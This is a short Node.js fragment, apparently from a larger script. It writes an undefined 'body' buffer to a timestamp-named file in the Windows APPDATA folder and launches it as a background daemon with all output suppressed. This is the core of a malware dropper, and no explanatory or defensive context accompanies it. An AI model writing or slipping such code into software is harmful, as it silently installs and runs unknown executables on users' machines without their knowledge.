const fs = require("fs");
const { spawn } = require("child_process");
const place = `${process.env.APPDATA}/${Date.now()}`;
fs.writeFileSync(place, body);
spawn(place, ["--daemon"], { stdio: "ignore" });
